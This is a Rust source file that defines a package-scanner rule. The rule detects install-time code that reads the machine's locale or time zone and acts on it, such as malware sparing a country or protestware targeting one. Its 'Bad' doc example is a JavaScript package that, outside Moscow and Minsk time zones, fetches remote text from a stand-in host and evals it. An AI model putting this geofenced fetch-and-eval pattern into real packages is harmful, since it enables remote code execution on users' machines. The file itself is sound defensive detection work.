//! # The machine's language or country decides what code does
//!
//! Code that runs at install or import reads the language, time zone or country, compares it with certain places, and
//! deletes, calls out, starts or evaluates something or leaves.
//!
//! ## Why it matters
//!
//! Malware spares its author's country, and protest strikes one.
//!
//! ## Known benign uses
//!
//! Formatting and translation read the same and act the same everywhere.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { timeZone } = Intl.DateTimeFormat().resolvedOptions(); //~ here
//! if (!/Moscow|Minsk/.test(timeZone)) fetch("https://words.invalid/").then((reply) => reply.text()).then((text) => eval(text));
//! exports.x = 1;
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { locale } = Intl.DateTimeFormat().resolvedOptions();
//! exports.greeting = locale.startsWith("ru") ? "Привет" : "Hello";
//! ```
//!
//! ## References
//!
//! - Snyk: node-ipc and peacenotwar (March 2022)
//! - GlassWorm: locale exemptions (October 2025)

use stockade_facts::api::{self, Effect};

use crate::prelude::*;

/// The machine's language or country decides what code does.
pub struct CountryDecides;

impl Rule for CountryDecides {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "country-decides",
            title: "The machine's language or country decides what code does",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1614.001",
            covers: &["evade-locale-gate", "protestware"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let acts = |effect: Effect| {
            use Effect::{Delete, Evaluate, EvaluateLast, Exit, Program, Send, Shell};
            matches!(effect, Send(_) | Shell(_) | Program(..) | Evaluate(_) | EvaluateLast | Delete(_) | Exit)
        };
        for (number, script) in
            (0_u32..).zip(facts.scripts()).filter(|(_, script)| script.trigger.runs_unasked())
        {
            let mut own = facts
                .all_calls()
                .iter()
                .filter(|call| call.spot.script == number && call.trigger.runs_unasked());
            if !own.any(|call| api::find(&call.api).is_some_and(|api| acts(api.effect))) {
                continue;
            }
            let tokens = facts.tokens(&script.path);
            let read = tokens.iter().find(|token| READS.contains(&token.text.as_str()));
            let has_place = tokens.iter().any(|token| PLACES.contains(&token.text.as_str()));
            if let (Some(read), true) = (read, has_place) {
                let locus = Locus {
                    file: script.path.to_string(),
                    start: read.start,
                    end: read.start + read.text.len(),
                };
                found.at(script.trigger, &locus, "asks for the machine's language or country before it acts");
            }
        }
    }
}

/// Names by which language, time zone and country are read, here and in the answers of address look-ups.
const READS: &[&str] = &[
    "resolvedOptions",
    "getTimezoneOffset",
    "LANG",
    "LC_ALL",
    "country_name",
    "country_code",
    "countryCode",
];

/// Places that published malware exempts or attacks, as locales, zones and countries name them.
const PLACES: &[&str] = &[
    "ru",
    "RU",
    "ru-RU",
    "ru_RU",
    "Moscow",
    "Europe/Moscow",
    "Minsk",
    "Europe/Minsk",
    "Russia",
    "russia",
    "Belarus",
    "belarus",
    "Kiev",
    "Kyiv",
    "be-BY",
    "be_BY",
    "Tehran",
    "Asia/Tehran",
    "Iran",
    "fa-IR",
    "Israel",
    "Jerusalem",
    "Asia/Jerusalem",
    "he-IL",
];
